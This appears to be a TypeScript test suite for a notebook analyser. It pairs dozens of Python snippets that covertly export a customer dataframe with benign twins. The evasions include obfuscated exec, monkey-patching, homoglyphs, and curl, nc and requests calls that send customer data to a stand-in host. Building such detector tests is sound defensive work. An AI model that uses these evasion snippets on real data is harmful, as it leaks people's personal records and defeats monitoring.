/**
 * Ways to hide that data leaves: each is an operation with the data or a gap. Beside each a benign twin
 * of the same shape, which has neither.
 */
import { analyseText } from './notebook.ts';

const START = 'import pandas as pd\ndf = pd.read_csv("customers.csv")\n---\n';
const SINKS: ReadonlySet<string> = new Set([
  'export',
  'write',
  'send',
  'display',
  'execute',
  'opaque',
]);

/** True when some operation that lets out has data in it, or something could not be seen. */
function isSeen(code: string, modules: Readonly<Record<string, string>> = {}): boolean {
  const { operations, gaps } = analyseText(START + code, { modules });
  const lets = operations.some(
    (it) =>
      SINKS.has(it.kind) && (it.open.length > 0 || it.columns.some(({ from }) => from.length > 0)),
  );
  return lets || gaps.length > 0;
}

/** Name, evasion, benign twin. */
const EVASIONS: readonly (readonly [string, string, string])[] = [
  ['an alias of the method', 'f = df.to_csv\nf("x.csv")', 'f = df.head\ng = f()'],
  ['an alias of the frame', 'a = df\nb = a\nb.to_csv("x.csv")', 'a = df\nb = a'],
  ['getattr', 'getattr(df, "to_csv")("x.csv")', 'g = getattr(df, "head")()'],
  [
    'getattr with a built name',
    'getattr(df, "to_" + "csv")("x.csv")',
    'g = getattr(df, "he" + "ad")()',
  ],
  ['getattr with an unknown name', 'getattr(df, input())("x.csv")', 'getattr(3, "real")'],
  [
    'operator.methodcaller',
    'import operator\noperator.methodcaller("to_csv", "x.csv")(df)',
    'import operator\ng = operator.methodcaller("head")(df)',
  ],
  [
    'operator.attrgetter',
    'import operator\noperator.attrgetter("to_csv")(df)("x.csv")',
    'import operator\ng = operator.attrgetter("head")(df)()',
  ],
  [
    'functools.partial',
    'from functools import partial\npartial(df.to_csv, "x.csv")()',
    'from functools import partial\ng = partial(df.head, 3)()',
  ],
  ['the method through the class', 'pd.DataFrame.to_csv(df, "x.csv")', 'g = pd.DataFrame.head(df)'],
  ['exec of text', 'exec("df.to_csv(\'x.csv\')")', 'exec("y = 1")'],
  [
    'exec of text in pieces',
    's = "df.to" + "_csv(\'x.csv\')"\nexec(s)',
    's = "y =" + " 1"\nexec(s)',
  ],
  [
    'exec of decoded text',
    'import base64\nexec(base64.b64decode("ZGYudG9fY3N2KCd4LmNzdicp"))',
    'import base64\ny = base64.b64decode("aGVsbG8=")',
  ],
  ['eval', 'eval("df.to_csv(\'x.csv\')")', 'y = eval("1 + 1")'],
  [
    'compile',
    'exec(compile("df.to_csv(\'x.csv\')", "a", "exec"))',
    'exec(compile("y = 1", "a", "exec"))',
  ],
  [
    '__import__',
    '__import__("requests").post("https://x.example", json=df.to_dict())',
    'm = __import__("math").sqrt(4)',
  ],
  [
    'importlib',
    'import importlib\nimportlib.import_module("requests").post("https://x.example", data=df.to_csv())',
    'import importlib\nm = importlib.import_module("math").sqrt(2)',
  ],
  ['globals', 'globals()["df"].to_csv("x.csv")', 'g = globals()["df"].head()'],
  [
    'builtins through a name',
    'import builtins\nbuiltins.open("x", "w").write(df.to_csv())',
    'import builtins\ny = builtins.len("abc")',
  ],
  ['a lambda', '(lambda d: d.to_csv("x.csv"))(df)', 'g = (lambda d: d.head())(df)'],
  [
    'a function',
    'def f(d):\n    d.to_csv("x.csv")\nf(df)',
    'def f(d):\n    return d.head()\ng = f(df)',
  ],
  [
    'a nested function',
    'def f(d):\n    def g():\n        d.to_csv("x.csv")\n    g()\nf(df)',
    'def f(d):\n    def g():\n        return d.head()\n    return g()\ny = f(df)',
  ],
  [
    'a default argument',
    'def f(d=df):\n    d.to_csv("x.csv")\nf()',
    'def f(d=df):\n    return d\ny = f()',
  ],
  [
    'a closure called later',
    'def make(d):\n    return lambda: d.to_csv("x.csv")\nmake(df)()',
    'def make(d):\n    return lambda: d.head()\ny = make(df)()',
  ],
  [
    'a decorator',
    'def export(f):\n    df.to_csv("x.csv")\n    return f\n@export\ndef g(): pass',
    'def same(f):\n    return f\n@same\ndef g(): pass',
  ],
  [
    'a class',
    'class A:\n    def __init__(self, d):\n        self.d = d\n    def go(self):\n        self.d.to_csv("x.csv")\nA(df).go()',
    'class A:\n    def __init__(self, d):\n        self.d = d\na = A(df)',
  ],
  [
    'a property',
    'class A:\n    @property\n    def p(self):\n        df.to_csv("x.csv")\ny = A().p',
    'class A:\n    @property\n    def p(self):\n        return 1\ny = A().p',
  ],
  [
    '__call__',
    'class A:\n    def __call__(self, d):\n        d.to_csv("x.csv")\nA()(df)',
    'class A:\n    def __call__(self, d):\n        return d\ny = A()(df)',
  ],
  [
    '__getattr__',
    'class A:\n    def __getattr__(self, n):\n        df.to_csv("x.csv")\ny = A().anything',
    'class A:\n    def __getattr__(self, n):\n        return 1\ny = A().anything',
  ],
  [
    '__enter__',
    'class A:\n    def __enter__(self):\n        df.to_csv("x.csv")\n    def __exit__(self, *a): pass\nwith A(): pass',
    'class A:\n    def __enter__(self): pass\n    def __exit__(self, *a): pass\nwith A(): pass',
  ],
  [
    '__exit__',
    'class A:\n    def __enter__(self): pass\n    def __exit__(self, *a):\n        df.to_csv("x.csv")\nwith A(): pass',
    'class A:\n    def __enter__(self): return 1\n    def __exit__(self, *a): pass\nwith A() as a: pass',
  ],
  [
    'an inherited method',
    'class A:\n    def go(self, d):\n        d.to_csv("x.csv")\nclass B(A): pass\nB().go(df)',
    'class A:\n    def go(self, d):\n        return d\nclass B(A): pass\ny = B().go(df)',
  ],
  [
    'a generator',
    'def g():\n    for r in df.itertuples():\n        yield r\nfor r in g():\n    print(r)',
    'def g():\n    for r in df.itertuples():\n        yield r\ny = g()',
  ],
  [
    'map over rows',
    'import requests\nlist(map(lambda r: requests.post("https://x.example", json=r), df.to_dict("records")))',
    'y = list(map(lambda r: 1, [1, 2]))',
  ],
  [
    'apply for the side effect',
    'import requests\ny = df.apply(lambda r: requests.post("https://x.example", data=r["email"]), axis=1)',
    'y = df.apply(lambda r: 1, axis=1)',
  ],
  ['pipe', 'df.pipe(lambda d: d.to_csv("x.csv"))', 'y = df.pipe(lambda d: d.head())'],
  [
    'monkey-patching',
    'def f(self, *a):\n    import requests\n    requests.post("https://x.example", data=str(self.values))\npd.DataFrame.head = f\ndf.head()',
    'y = df.head()',
  ],
  [
    'a shadowed name',
    'def print(x):\n    x.to_csv("x.csv")\nprint(df)',
    'def print(x):\n    return 1\nprint(df);',
  ],
  ['a shadowed open', 'import io\nopen = io.open\nopen("x", "w").write(df.to_csv())', 'open = 3'],
  [
    'setattr',
    'class A: pass\na = A()\nsetattr(a, "go", df.to_csv)\na.go("x.csv")',
    'class A: pass\na = A()\nsetattr(a, "go", 1)',
  ],
  [
    'a dict of functions',
    'fs = {"a": df.to_csv}\nfs["a"]("x.csv")',
    'fs = {"a": df.head}\ny = fs["a"]()',
  ],
  [
    'a list of functions',
    'for f in [df.to_csv]:\n    f("x.csv")',
    'for f in [df.head]:\n    y = f()',
  ],
  [
    'rebinding in a loop',
    'x = 1\nfor i in range(3):\n    if i == 1:\n        x = df\nx.to_csv("x.csv")',
    'x = 1\nfor i in range(3):\n    x = x + 1',
  ],
  [
    'rebinding under a condition',
    'x = 1\nif input():\n    x = df\nprint(x)',
    'x = 1\nif input():\n    x = 2\nprint(x)',
  ],
  [
    'an exception',
    'raise ValueError(df.to_csv())',
    'try:\n    raise ValueError(df.to_csv())\nexcept ValueError:\n    pass',
  ],
  [
    'an exception that is caught and printed',
    'try:\n    raise ValueError(df.to_csv())\nexcept ValueError as e:\n    print(e)',
    'try:\n    raise ValueError("no")\nexcept ValueError as e:\n    print(e)',
  ],
  [
    'an f-string',
    'import requests\nrequests.get(f"https://x.example/?q={df.email[0]}")',
    'u = f"https://x.example/?q={df.email[0]}"',
  ],
  [
    'a header',
    'import requests\nrequests.get("https://x.example", headers={"a": df.to_csv()})',
    'h = {"a": df.to_csv()}',
  ],
  [
    'os.system',
    'import os\nos.system("curl -d @customers.csv https://x.example")',
    'import os\nos.system("ls")',
  ],
  [
    'subprocess with a list',
    'import subprocess\nsubprocess.run(["curl", "-T", "customers.csv", "https://x.example"])',
    'import subprocess\nsubprocess.run(["ls", "-l"])',
  ],
  [
    'subprocess with input',
    'import subprocess\nsubprocess.run(["sendmail", "a@x.example"], input=df.to_csv())',
    'import subprocess\nsubprocess.run(["date"])',
  ],
  ['a shell escape', '!curl -F f=@customers.csv https://x.example', '!ls -la'],
  ['a shell escape with a variable', 's = df.to_csv()\n!echo {s} | nc x.example 80', '!echo hello'],
  ['cat', '!cat customers.csv', '!pwd'],
  ['cp', '!cp customers.csv /mnt/usb/x.csv', '!mkdir out'],
  ['aws', '!aws s3 cp customers.csv s3://x/', '!pip install pandas'],
  ['a bash cell', '%%bash\ncurl -F f=@customers.csv https://x.example', '%%bash\nls'],
  [
    'get_ipython().system',
    'get_ipython().system("curl -T customers.csv https://x.example")',
    'get_ipython().system("ls")',
  ],
  [
    'get_ipython().run_cell',
    'get_ipython().run_cell("df.to_csv(\'x.csv\')")',
    'get_ipython().run_cell("y = 1")',
  ],
  [
    'run_line_magic',
    'get_ipython().run_line_magic("sx", "cat customers.csv")',
    'get_ipython().run_line_magic("matplotlib", "inline")',
  ],
  [
    'shutil.copy',
    'import shutil\nshutil.copy("customers.csv", "/mnt/usb/x.csv")',
    'import shutil\nshutil.rmtree("tmp")',
  ],
  [
    'pathlib',
    'from pathlib import Path\nPath("x.txt").write_text(df.to_csv())',
    'from pathlib import Path\ny = Path("a") / "b"',
  ],
  [
    'raw bytes of the file',
    'd = open("customers.csv", "rb").read()\nopen("/tmp/x", "wb").write(d)',
    'd = open("customers.csv", "rb").read()',
  ],
  [
    'a buffer',
    'import io, requests\nb = io.StringIO()\ndf.to_csv(b)\nrequests.post("https://x.example", data=b.getvalue())',
    'import io\nb = io.StringIO()\ndf.to_csv(b)',
  ],
  [
    'pickle',
    'import pickle\npickle.dump(df, open("x.pkl", "wb"))',
    'import pickle\ny = pickle.dumps(df)',
  ],
  [
    'base64 in a request',
    'import base64, requests\nrequests.post("https://x.example", data=base64.b64encode(df.to_csv().encode()))',
    'import base64\ny = base64.b64encode(df.to_csv().encode())',
  ],
  [
    'json',
    'import json\njson.dump(df.to_dict(), open("x.json", "w"))',
    'import json\ny = json.dumps(df.to_dict())',
  ],
  [
    'csv',
    'import csv\nw = csv.writer(open("x.csv", "w"))\nw.writerows(df.values)',
    'import csv\ny = csv.QUOTE_ALL',
  ],
  [
    'a thread',
    'import threading\nthreading.Thread(target=df.to_csv, args=("x.csv",)).start()',
    'import threading\nthreading.Thread(target=df.head).start()',
  ],
  [
    'atexit',
    'import atexit\natexit.register(lambda: df.to_csv("x.csv"))',
    'import atexit\natexit.register(lambda: df.head())',
  ],
  [
    'HTML display',
    'from IPython.display import HTML, display\ndisplay(HTML(f"<img src=https://x.example/{df.email[0]}>"))',
    'from IPython.display import HTML\ny = HTML("<b>x</b>")',
  ],
  [
    'an unknown library',
    'import corplib\ncorplib.publish(df)',
    'import corplib\ncorplib.setup("x")',
  ],
  ['an unknown object', 'client.put(df)', 'client.put("x")'],
  ['a workspace module', 'import helpers\nhelpers.go(df)', 'import helpers\ny = helpers.same(df)'],
  [
    '%%writefile then import',
    '%%writefile evil.py\ndef go(d):\n    d.to_csv("x.csv")\n---\nimport evil\nevil.go(df)',
    'import helpers\ny = helpers.same(df)',
  ],
  [
    'a model',
    'import openai\nopenai.OpenAI().chat.completions.create(messages=[{"content": df.to_string()}])',
    'import openai\nopenai.OpenAI().chat.completions.create(messages=[{"content": "hello"}])',
  ],
  ['logging', 'import logging\nlogging.info(df)', 'import logging\nlogging.info("done")'],
  ['homoglyphs', 'df.ｔo_csv("x.csv")', 'y = df.ｈead()'],
  [
    'a conditional expression',
    '(df if input() else None).to_csv("x.csv")',
    'y = df if input() else None',
  ],
  ['a walrus', '(d := df).to_csv("x.csv")', '(d := df);'],
  ['a star argument', 'a = ["x.csv"]\ndf.to_csv(*a)', 'a = [3]\ny = df.head(*a)'],
  [
    'keyword arguments in a dict',
    'df.to_csv(**{"path_or_buf": "x.csv"})',
    'y = df.head(**{"n": 3})',
  ],
  [
    'a comprehension for the effect',
    '[d.to_csv("x.csv") for d in [df]]',
    'y = [d.head() for d in [df]]',
  ],
  ['clipboard', 'df.to_clipboard()', 'y = df.copy()'],
  [
    'an Excel writer',
    'with pd.ExcelWriter("x.xlsx") as w:\n    df.to_excel(w)',
    'w = pd.ExcelWriter("x.xlsx")',
  ],
  ['a star import', 'from corplib import *\npublish(df)', 'from math import *\ny = sqrt(2)'],
  [
    'match',
    'match df:\n    case d:\n        d.to_csv("x.csv")',
    'match df:\n    case d:\n        y = d.head()',
  ],
  ['a while loop', 'while True:\n    df.to_csv("x.csv")\n    break', 'while True:\n    break'],
  ['a hidden cell', '%%capture\ndf.to_csv("x.csv")', '%%capture\ny = df.head()'],
  ['a timed statement', '%time df.to_csv("x.csv")', '%time y = df.head()'],
];

const MODULES = { helpers: 'def go(d):\n    d.to_csv("x.csv")\n\ndef same(d):\n    return d\n' };

describe('an export that hides is seen', () => {
  it.each(EVASIONS)('%s', (_name, evasion) => {
    expect(isSeen(evasion, MODULES)).toBe(true);
  });
});

describe('its benign twin is not', () => {
  it.each(EVASIONS)('%s', (_name, _evasion, benign) => {
    expect(isSeen(benign, MODULES)).toBe(false);
  });
});
